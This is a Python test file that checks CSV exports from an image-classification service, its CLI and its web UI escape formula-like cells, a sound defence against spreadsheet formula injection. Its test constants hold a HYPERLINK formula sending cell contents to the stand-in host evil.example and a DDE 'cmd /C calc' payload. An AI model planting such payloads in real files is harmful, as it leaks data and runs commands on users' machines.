"""Every CSV the server and the CLI write keeps a spreadsheet from running the uploader's text as a formula: the
job results (GET /v1/jobs/{id}/results?format=csv), the CLI's `--out x.csv` and the collection export (its own
test: tests/unit/test_collection_store.py). The job results and the CLI wrote `=HYPERLINK(...)` file names and
labels as they came."""

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from serving.cli_output import write_results
from serving.jobs.records import ResultRecord
from serving.jobs.results import csv_lines
from serving.spreadsheet import safe_cell

pytestmark = pytest.mark.unit

HOSTILE_NAME = '=HYPERLINK("https://evil.example/"&A3,"open").jpg'
HOSTILE_LABEL = '@SUM(1+1)*cmd|" /C calc"!A0'


def test_text_that_starts_like_a_formula_gets_an_apostrophe_and_numbers_stay() -> None:
    assert [safe_cell(v) for v in ("=1+1", "+1", "-x", "@a", "\tb", "cat.jpg", None, -0.5, 3)] == [
        "'=1+1", "'+1", "'-x", "'@a", "'\tb", "cat.jpg", "", -0.5, 3,
    ]  # fmt: skip


def test_job_results_csv_cells_are_not_formulas() -> None:
    prediction = {"label": HOSTILE_LABEL, "index": 1, "score": 0.9}
    document = {"classification": {"predictions": [prediction]}}
    done = ResultRecord(0, HOSTILE_NAME, "done", "m", document, None, None, 1.0, 1)
    (row,) = csv.reader(io.StringIO(csv_lines([done])))
    assert row[1] == "'" + HOSTILE_NAME and row[4] == "'" + HOSTILE_LABEL and row[5] == "0.900000"


def test_the_clis_csv_cells_are_not_formulas(tmp_path: Path) -> None:
    record = {"image": HOSTILE_NAME, "predictions": [{"label": HOSTILE_LABEL, "score": 0.5}], "model": "m"}
    write_results(tmp_path / "out.csv", [record])
    (row,) = csv.DictReader((tmp_path / "out.csv").open())
    assert row["image"] == "'" + HOSTILE_NAME and row["top_label"] == "'" + HOSTILE_LABEL and row["top_score"] == "0.5"


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed (make installs it with the UI)")
def test_the_web_uis_csv_cells_are_not_formulas() -> None:
    """The Analyze page's "Download CSV" (serving/ui/static/core.js `csvCell`), run by node: EXIF fields and labels
    starting like a formula get the apostrophe; a carriage return is quoted."""
    core = (Path(__file__).resolve().parents[2] / "serving" / "ui" / "static" / "core.js").as_uri()
    values = [HOSTILE_LABEL, "=1+1", "a,b", "x\ry", -1, None, "cat"]
    script = (
        f"import {{csvCell}} from {json.dumps(core)}; console.log(JSON.stringify({json.dumps(values)}.map(csvCell)))"
    )
    done = subprocess.run(["node", "--input-type=module", "-e", script], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    quoted = '"' + ("'" + HOSTILE_LABEL).replace('"', '""') + '"'  # it holds quotes: the whole cell is quoted
    expected = [quoted, "'=1+1", '"a,b"', '"x\ry"', "-1", "", "cat"]
    assert json.loads(done.stdout) == expected
